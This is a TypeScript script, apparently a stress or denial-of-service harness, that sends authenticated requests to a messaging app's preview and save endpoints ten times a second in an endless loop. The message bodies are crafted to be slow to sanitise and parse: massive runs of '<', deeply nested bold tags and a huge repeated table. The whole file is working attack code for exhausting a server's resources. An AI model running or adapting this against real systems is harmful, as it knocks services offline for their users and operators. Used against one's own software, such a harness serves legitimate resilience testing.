import { setTimeout as wait } from 'node:timers/promises';
import { attack } from './underWay.ts';

const perSecond = 10;

/** Within the limits of the editor, and as slow to process as possible. */
const allowed = `<table>${'<tr><td><b>a</b></td></tr>'.repeat(1200)}</table>`;
const bodies = ['<'.repeat(199_000), `${'<b>'.repeat(28_000)}a${'</b>'.repeat(28_000)}`, allowed];

/** Texts that are slow to sanitise and to parse, each previewed and saved. */
await attack<{ readonly url: string; readonly token: string }>(async ({ url, token }, count) => {
  const headers = { authorization: `Bearer ${token}` };
  for (let n = 0; ; n++) {
    const text = { subject: 'Objet', body: bodies[n % bodies.length] ?? '' };
    const form = new FormData();
    for (const [name, value] of Object.entries(text)) form.set(name, value);
    const preview = fetch(`${url}/api/message/preview/3/1`, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify(text),
    });
    const save = fetch(`${url}/api/message/3/1`, { method: 'POST', headers, body: form });
    for (const sent of [preview, save])
      void sent.then(
        ({ status }) => count(`answered ${status}`),
        () => count('cut off'),
      );
    await wait(1000 / perSecond);
  }
});
